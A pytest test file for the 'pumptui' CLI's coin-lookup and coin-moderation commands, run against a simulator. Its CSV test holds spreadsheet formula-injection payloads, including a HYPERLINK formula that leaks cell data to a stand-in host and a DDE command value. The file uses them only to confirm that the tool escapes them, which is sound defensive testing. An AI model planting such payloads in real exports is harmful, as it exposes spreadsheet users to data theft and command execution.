"""`pumptui coins` and `pumptui moderate`, run through `pumptui.cli.main` against the simulator."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
from collections.abc import Iterator
from pathlib import Path

import httpx
import keyring
import pytest
from keyring.backends import fail

from pumptui.api import PumpClient
from pumptui.cli import main
from pumptui.sim import FaultPlan, SimServer
from tests.api.conftest import unknown_mints

FAST = ["--frontend-rpm", "60000", "--swap-rpm", "60000"]


@pytest.fixture(autouse=True)
def no_keyring() -> Iterator[None]:
    """Tokens come from PUMPTUI_TOKEN here; the real keyring is never consulted."""
    previous = keyring.core._keyring_backend
    keyring.set_keyring(fail.Keyring())
    yield
    keyring.core._keyring_backend = previous


def coins_cli(sim: SimServer, *args: str) -> int:
    return main(["--api-url", sim.base_url, "coins", *FAST, *args])


def moderate_cli(sim: SimServer, *args: str) -> int:
    return main(["--api-url", sim.base_url, "moderate", *args, *FAST])


def is_nsfw(sim: SimServer, mint: str) -> bool:
    return sim.call(lambda: sim.market.coins[mint].nsfw)


def jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


# -- pumptui coins -------------------------------------------------------------------------------


def test_results_come_in_input_order_with_every_item_accounted(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    first, second = sim.mints()[:2]
    missing = unknown_mints(1)[0]

    status = coins_cli(sim, second, "bogus", first, missing, second, "--format", "jsonl")

    out, err = capsys.readouterr()
    rows = jsonl(out)
    assert [(r["item"], r["status"]) for r in rows] == [
        (second, "found"),
        ("bogus", "invalid"),
        (first, "found"),
        (missing, "not_found"),
    ]
    assert rows[0]["coin"]["mint"] == second
    assert status == 1  # an invalid item is not a clean run
    assert "4 items, 2 found, 1 not found, 1 invalid · 1 duplicate dropped" in err


def test_a_clean_run_exits_0_even_with_unknown_mints(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    status = coins_cli(sim, sim.mints()[0], unknown_mints(1)[0], "--format", "json")

    out, _ = capsys.readouterr()
    assert status == 0
    assert [r["status"] for r in json.loads(out)] == ["found", "not_found"]


def test_mints_are_read_from_a_file_and_from_stdin(
    sim: SimServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    mints = sim.mints()[:4]
    listing = tmp_path / "mints.txt"
    listing.write_text(f"# watchlist\n{mints[0]}\n\n{mints[1]}, {mints[2]}\n")
    monkeypatch.setattr("sys.stdin", io.StringIO(f"{mints[3]}\n"))

    status = coins_cli(sim, "--file", str(listing), "-", "--format", "jsonl")

    out, _ = capsys.readouterr()
    assert status == 0
    assert sorted(r["item"] for r in jsonl(out)) == sorted(mints)


def test_the_table_shows_names_literally(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    mint = sim.create_coin(name="[bold red]Rug[/bold red]\x1b[5m", symbol="[b]RUG")

    status = coins_cli(sim, mint)

    out, _ = capsys.readouterr()
    assert status == 0
    assert "[bold red]Rug[/bold red]" in out
    assert mint in out  # whole where it fits, to be copied
    assert "\x1b" not in out


def cells_of(line: str) -> list[tuple[str, int, int]]:
    """The cells of a table line (columns are 2 or more blanks apart), each with the terminal
    cells where it starts and ends: an emoji or a CJK character is two cells wide."""
    from rich.cells import cell_len

    found = []
    for match in re.finditer(r"\S+(?: \S+)*", line):
        start = cell_len(line[: match.start()])
        found.append((match.group(), start, start + cell_len(match.group())))
    return found


def test_the_table_fits_80_columns_with_short_mints_and_whole_figures(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:

    monkeypatch.setenv("COLUMNS", "80")
    listed = sim.mints()[:4]
    mints = [*listed, sim.create_coin(name="🚀" * 40 + "全角文字テスト", symbol="🚀全角")]
    wire = {m: httpx.get(f"{sim.base_url}/coins-v2/{m}").json() for m in mints}

    status = coins_cli(sim, *mints)

    header, *lines = capsys.readouterr().out.splitlines()
    headers = cells_of(header)
    assert status == 0
    assert [h for h, _, _ in headers] == [
        "mint",
        "name",
        "symbol",
        "mcap SOL",
        "mcap USD",
        "ATH USD",
        "curve",
        "age",
    ]
    assert len(lines) == len(mints)  # one line a coin: nothing wraps
    for mint, line in zip(mints, lines, strict=True):
        cells = cells_of(line)
        assert cells[-1][2] <= 80
        assert len(cells) == len(headers)
        row = {h: cell for (h, _, _), (cell, _, _) in zip(headers, cells, strict=True)}
        # Text starts under its header, figures end under theirs, whatever is wide before.
        for (h, h_start, h_end), (_, start, end) in zip(headers, cells, strict=True):
            if h in ("mint", "name", "symbol"):
                assert start == h_start
            else:
                assert end == h_end
        assert row["mint"] == f"{mint[:4]}…{mint[-4:]}"  # "EpNi…pump"
        assert row["symbol"] == wire[mint]["symbol"]
        usd = float(wire[mint]["usd_market_cap"])
        assert row["mcap USD"] == f"${usd / 1000:.3g}k"  # "$4.58k": whole, as the app shows it
        assert re.fullmatch(r"\d+%", row["curve"])
        assert re.fullmatch(r"\d+[smhdy]", row["age"])
    long_name = cells_of(lines[-1])[1][0]
    assert long_name.startswith("🚀🚀🚀")
    assert long_name.endswith("…")  # the long name is cut, the row stays one line


def test_csv_has_a_header_and_a_row_per_item(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    mints = sim.mints()[:3]

    status = coins_cli(sim, *mints, "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert status == 0
    assert [r["mint"] for r in rows] == mints
    assert all(float(r["market_cap_sol"]) > 0 for r in rows)


FORMULAS = {
    # name as the server sends it: what a spreadsheet must show (never run)
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'=1+1",  # the sanitiser trims the tab; the quote is still added after it
    "\r\n=2+2": "'=2+2",
    " =3+3": "'=3+3",
}


def test_csv_cells_that_look_like_formulas_are_written_as_text(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    mints = [sim.create_coin(name=name, symbol="=SYM") for name in FORMULAS]

    status = coins_cli(sim, *mints, "=not-a-mint", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert status == 1  # the invalid item
    assert [r["name"] for r in rows[:-1]] == list(FORMULAS.values())
    assert {r["symbol"] for r in rows[:-1]} == {"'=SYM"}
    assert rows[-1]["mint"] == "'=not-a-mint"  # the user's own input is a cell too
    assert all(float(r["market_cap_sol"]) > 0 for r in rows[:-1])  # numbers stay numbers


def test_a_found_coin_carries_its_metadata_in_documented_units(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    mint = sim.mints()[0]
    wire = httpx.get(f"{sim.base_url}/coins-v2/{mint}").json()  # the 2026 Coin, reference §5

    status = coins_cli(sim, mint, "--format", "jsonl")

    coin = jsonl(capsys.readouterr().out)[0]["coin"]
    assert status == 0
    assert (coin["name"], coin["symbol"]) == (wire["name"], wire["symbol"])
    assert {"description", "image_uri", "twitter", "telegram", "website"} <= coin.keys()
    # Lamports and raw units stay integers; times are Unix seconds (the wire has ms).
    assert coin["virtual_sol_reserves"] == wire["virtual_sol_reserves"]
    assert coin["created_at"] == pytest.approx(wire["created_timestamp"] / 1000)
    # The all-time high is USD on the wire (2026) and in the output.
    assert coin["ath_market_cap_usd"] == pytest.approx(float(wire["ath_market_cap"]))
    assert coin["market_cap_usd"] == pytest.approx(float(wire["usd_market_cap"]))


def test_retired_options_are_refused_with_what_replaced_them(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    mint = sim.mints()[0]
    assert coins_cli(sim, mint, "--metadata") == 2
    assert "carries its name, symbol, description, image and socials" in capsys.readouterr().err
    assert main(["--advanced-url", sim.base_url, "coins", mint]) == 2
    assert "--advanced-url is gone" in capsys.readouterr().err


def test_requests_per_minute_is_a_deprecated_alias_of_the_swap_budget(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    from pumptui.cli import build_parser
    from pumptui.cli.options import settings_from_args

    args = build_parser().parse_args(
        ["--api-url", sim.base_url, "coins", "--requests-per-minute", "12", "--frontend-rpm", "20"]
    )
    settings = settings_from_args(args)

    assert settings.api.swap_requests_per_minute == 12
    assert settings.api.frontend_requests_per_minute == 20
    assert settings.api.swap_url == settings.api.frontend_url == sim.base_url
    assert "deprecated" in capsys.readouterr().err


def test_bad_usage_and_no_valid_input_exit_2(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    assert coins_cli(sim) == 2
    assert "no mints given" in capsys.readouterr().err
    assert coins_cli(sim, "nope", "also-nope") == 2
    assert "no valid input" in capsys.readouterr().err
    assert coins_cli(sim, "--file", "/nonexistent/mints.txt") == 2
    assert main(["--api-url", "ftp://pump.example", "coins", sim.mints()[0]]) == 2
    assert "bad server URL" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exited:
        coins_cli(sim, "--batch-size", "101", sim.mints()[0])
    assert exited.value.code == 2
    with pytest.raises(SystemExit) as exited:
        coins_cli(sim, "--concurrency", "6", sim.mints()[0])
    assert exited.value.code == 2


@pytest.mark.slow
def test_failed_mints_are_written_and_the_same_command_reruns_them(
    sim: SimServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mints = sim.mints()[:2]
    failed = tmp_path / "failed.txt"
    sim.set_faults(FaultPlan(error_rate=1.0, paths="^/coins-v2/mints"))

    first = coins_cli(sim, *mints, "--failed-out", str(failed), "--format", "jsonl")
    _, err = capsys.readouterr()
    sim.clear_faults()
    again = coins_cli(sim, "--file", str(failed), "--format", "jsonl")
    out, _ = capsys.readouterr()

    assert first == 1
    assert "2 failed" in err
    assert "server error" in err
    assert failed.read_text().split() == mints
    assert again == 0
    assert [r["status"] for r in jsonl(out)] == ["found", "found"]


def test_ctrl_c_prints_what_was_done_and_writes_the_rest(
    sim: SimServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    mints = unknown_mints(100)
    failed = tmp_path / "rest.txt"
    real = PumpClient.coins_by_mints
    calls = 0

    async def interrupted_on_third_call(self, batch, **options):  # type: ignore[no-untyped-def]
        nonlocal calls
        calls += 1
        if calls == 3:
            signal.raise_signal(signal.SIGINT)  # what Ctrl-C does to asyncio.run
        return await real(self, batch, **options)

    monkeypatch.setattr(PumpClient, "coins_by_mints", interrupted_on_third_call)
    # Ctrl-C as a terminal delivers it, whatever an earlier test in this worker process left
    # installed for SIGINT (asyncio.run turns only the default handler into a cancellation).
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        status = coins_cli(
            sim,
            *mints,
            "--batch-size",
            "10",
            "--concurrency",
            "1",
            "--failed-out",
            str(failed),
            "--format",
            "jsonl",
        )
    finally:
        signal.signal(signal.SIGINT, previous)

    out, err = capsys.readouterr()
    rows = jsonl(out)
    rest = failed.read_text().split()
    assert status == 130
    assert [r["item"] for r in rows] == mints  # every item printed, in order
    done = [r["item"] for r in rows if r["status"] == "not_found"]
    assert len(done) == 20
    assert sorted(done + rest) == sorted(mints)
    assert {r["reason"] for r in rows if r["status"] == "failed"} == {"interrupted"}
    assert "interrupted" in err


# -- pumptui moderate ----------------------------------------------------------------------------


def test_admins_mark_coins_nsfw(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))
    targets = [sim.create_coin(name=f"Lewd {n}", symbol="L") for n in range(3)]

    status = moderate_cli(sim, "nsfw", *targets, unknown_mints(1)[0], "--yes", "--format", "jsonl")

    rows = jsonl(capsys.readouterr().out)
    assert status == 0
    assert [r["status"] for r in rows] == ["done", "done", "done", "not_found"]
    assert all(is_nsfw(sim, m) for m in targets)


def test_admins_hide_and_ban_coins(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))
    spam = [sim.create_coin(name=f"Spam {n}", symbol="SPAM") for n in range(2)]

    hidden = moderate_cli(sim, "hide", spam[0], "--yes", "--format", "jsonl")
    banned = moderate_cli(sim, "ban", spam[1], "--reason", "spam", "--yes", "--format", "jsonl")

    out = capsys.readouterr().out
    assert (hidden, banned) == (0, 0)
    assert [r["status"] for r in jsonl(out)] == ["done", "done"]
    assert sim.call(lambda: sim.market.coins[spam[0]].hidden)
    assert sim.call(lambda: sim.market.coins[spam[1]].banned)


def test_a_ban_without_a_reason_is_refused(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))

    assert moderate_cli(sim, "ban", "12", "--yes") == 2
    assert "--reason" in capsys.readouterr().err


def test_moderation_without_a_token_says_how_to_get_one(
    sim: SimServer, capsys: pytest.CaptureFixture[str]
) -> None:
    status = moderate_cli(sim, "nsfw", sim.mints()[0], "--yes")

    assert status == 2
    assert "pumptui login" in capsys.readouterr().err


def test_a_non_admin_token_is_refused_clearly_and_never_printed(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    raw = sim.token_for()
    monkeypatch.setenv("PUMPTUI_TOKEN", raw)
    target = sim.create_coin(name="Clean", symbol="CLN")

    status = moderate_cli(sim, "nsfw", target, "--yes")

    out, err = capsys.readouterr()
    assert status == 2
    assert "no admin rights" in err
    assert raw not in out + err
    assert not is_nsfw(sim, target)


def test_without_yes_and_without_a_terminal_nothing_happens(
    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))
    target = sim.create_coin(name="Clean", symbol="CLN")

    status = moderate_cli(sim, "nsfw", target)

    assert status == 2
    assert "--yes" in capsys.readouterr().err
    assert not is_nsfw(sim, target)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("answer", "expected_status", "changed"), [("n\n", 2, False), ("y\n", 0, True)]
)
def test_the_confirmation_question_decides(
    sim: SimServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    answer: str,
    expected_status: int,
    changed: bool,
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))
    monkeypatch.setattr("sys.stdin", Terminal(answer))
    target = sim.create_coin(name="Clean", symbol="CLN")

    status = moderate_cli(sim, "nsfw", target)

    assert status == expected_status
    assert "mark 1 coin as NSFW" in capsys.readouterr().err
    assert is_nsfw(sim, target) is changed


def test_moderation_failures_are_accounted_and_written(
    sim: SimServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PUMPTUI_TOKEN", sim.token_for(admin=True))
    targets = [sim.create_coin(name=f"Bulk {n}", symbol=f"B{n}", description="") for n in range(2)]
    failed = tmp_path / "failed.txt"
    sim.set_faults(FaultPlan(error_rate=1.0, paths="^/moderation/"))

    status = moderate_cli(
        sim,
        "nsfw",
        *targets,
        "not-a-mint",
        "--yes",
        "--failed-out",
        str(failed),
        "--format",
        "jsonl",
    )

    rows = jsonl(capsys.readouterr().out)
    assert status == 1
    assert [r["status"] for r in rows] == ["failed", "failed", "invalid"]
    assert failed.read_text().split() == targets
